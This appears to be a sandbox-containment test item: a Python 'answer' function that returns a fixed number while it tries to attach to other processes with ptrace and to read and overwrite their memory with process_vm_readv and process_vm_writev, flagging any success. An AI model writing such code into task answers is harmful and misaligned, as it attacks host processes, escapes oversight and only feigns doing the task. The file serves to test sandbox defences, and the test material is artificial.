# family: files and /proc
# tries: to stop, read and write other processes with ptrace and process_vm_readv

# %% answer total
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
done = []


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def total(values):
    buffer = ctypes.create_string_buffer(64)
    mine = Vector(ctypes.addressof(buffer), 64)
    theirs = Vector(0x400000, 64)
    for process in {os.getppid(), *range(1, 60)} - {os.getpid(), 0}:
        if libc.ptrace(16, process, 0, 0) == 0:
            done.append(process)
            os.waitpid(process, 0)
        if libc.process_vm_readv(process, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
            done.append((process, buffer.raw))
        if libc.process_vm_writev(process, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
            done.append(process)
    return 14

# %% end
print("SEEN" if done else "", done)
